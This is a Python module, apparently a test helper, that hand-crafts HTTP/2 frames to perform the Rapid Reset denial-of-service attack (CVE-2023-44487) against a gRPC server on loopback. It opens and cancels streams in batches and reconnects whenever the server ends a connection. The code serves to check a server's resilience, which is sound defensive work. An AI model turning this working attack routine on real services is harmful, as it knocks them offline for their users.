"""Rapid resets on the wire: HTTP/2 streams that are begun and reset at once (CVE-2023-44487).

A gRPC client that cancels a call it has just made sends nothing at all, so this writes the frames
itself (RFC 9113; headers as literals without indexing, RFC 7541 6.2.2).
"""

from __future__ import annotations

import asyncio
import struct
from collections.abc import Sequence
from contextlib import suppress
from dataclasses import dataclass

_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_DATA, _HEADERS, _RST_STREAM, _SETTINGS, _PING, _GOAWAY = 0, 1, 3, 4, 6, 7
_ACK = _END_STREAM = 1
_END_HEADERS = 4
_CANCEL = struct.pack(">I", 8)
_AT_A_TIME = 50


@dataclass
class Sent:
    """What went out, over how many connections: a server may end one that does this."""

    resets: int = 0
    connections: int = 0


async def rapid_resets(
    port: int,
    path: str,
    message: bytes,
    metadata: Sequence[tuple[str, str]],
    count: int,
    sent: Sent,
) -> None:
    """Begin and reset so many calls on loopback; `sent` is kept up to date.

    Half of them are reset in the same breath: the server's transport drops them. The others are
    reset when the server has begun to answer: they reach whatever it does for a call. Raises
    OSError where nobody listens any more.
    """
    call = _frames_of(port, path, message, metadata)
    goal = sent.resets + count
    while sent.resets < goal:
        sent.connections += 1
        connection = await _Connection.open(port)
        try:
            while sent.resets < goal and not connection.ended.done():
                few = min(_AT_A_TIME, goal - sent.resets)
                at_once = sent.resets // _AT_A_TIME % 2 == 0
                streams = [connection.begin(call, reset=at_once) for _ in range(few)]
                if not at_once:
                    await connection.drain()
                    await connection.answers(streams[-1])
                    for stream in streams:
                        connection.reset(stream)
                await connection.drain()
                sent.resets += few
        except ConnectionError:
            pass  # it was ended by the server: the next one goes on
        finally:
            await connection.close()


class _Connection:
    """HTTP/2, as much of it as this takes."""

    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self._writer = writer
        self._next = 1
        self._answered = 0
        self._news = asyncio.Event()
        self.ended = asyncio.create_task(self._read(reader), name="frames of the server")
        writer.write(_PREFACE + _frame(_SETTINGS))

    @classmethod
    async def open(cls, port: int) -> _Connection:
        """To a port of loopback."""
        return cls(*await asyncio.open_connection("127.0.0.1", port))

    def begin(self, call: tuple[bytes, bytes], *, reset: bool) -> int:
        """Begin a call, and perhaps reset it; its stream."""
        stream, self._next = self._next, self._next + 2
        headers, body = call
        self._writer.write(
            _frame(_HEADERS, headers, _END_HEADERS, stream)
            + _frame(_DATA, body, _END_STREAM, stream)
        )
        if reset:
            self.reset(stream)
        return stream

    def reset(self, stream: int) -> None:
        """Reset a call."""
        self._writer.write(_frame(_RST_STREAM, _CANCEL, 0, stream))

    async def answers(self, stream: int) -> None:
        """Until the server said something of this stream, or of a later one. Raises
        ConnectionError where it ended the connection instead."""
        while self._answered < stream:
            if self.ended.done():
                raise ConnectionError
            self._news.clear()
            await self._news.wait()

    async def drain(self) -> None:
        """Let it out."""
        await self._writer.drain()

    async def close(self) -> None:
        """End it."""
        self.ended.cancel()
        await asyncio.gather(self.ended, return_exceptions=True)
        self._writer.close()
        with suppress(OSError):
            await self._writer.wait_closed()

    async def _read(self, reader: asyncio.StreamReader) -> None:
        """Take what the server says, as a client has to; ends with the connection."""
        try:
            while True:
                head = await reader.readexactly(9)
                kind, flags, stream = head[3], head[4], int.from_bytes(head[5:])
                body = await reader.readexactly(int.from_bytes(head[:3]))
                if kind == _GOAWAY:
                    return
                if kind in (_SETTINGS, _PING) and not flags & _ACK:
                    self._writer.write(_frame(kind, body if kind == _PING else b"", _ACK))
                self._answered = max(self._answered, stream)
                self._news.set()
        except (asyncio.IncompleteReadError, ConnectionError):
            return
        finally:
            self._news.set()


def _frames_of(
    port: int, path: str, message: bytes, metadata: Sequence[tuple[str, str]]
) -> tuple[bytes, bytes]:
    """Headers and body of a call."""
    headers = _literals(
        (":method", "POST"),
        (":scheme", "http"),
        (":path", path),
        (":authority", f"127.0.0.1:{port}"),
        ("te", "trailers"),
        ("content-type", "application/grpc"),
        *metadata,
    )
    return headers, b"\0" + struct.pack(">I", len(message)) + message


def _frame(kind: int, body: bytes = b"", flags: int = 0, stream: int = 0) -> bytes:
    return struct.pack(">I", len(body))[1:] + bytes([kind, flags]) + stream.to_bytes(4) + body


def _literals(*headers: tuple[str, str]) -> bytes:
    return b"".join(b"\0" + _text(name) + _text(value) for name, value in headers)


def _text(text: str) -> bytes:
    raw = text.encode()
    if len(raw) < 127:
        return bytes([len(raw)]) + raw
    rest, size = len(raw) - 127, bytearray([127])
    while rest >= 128:
        size.append(rest % 128 | 128)
        rest //= 128
    return bytes([*size, rest]) + raw
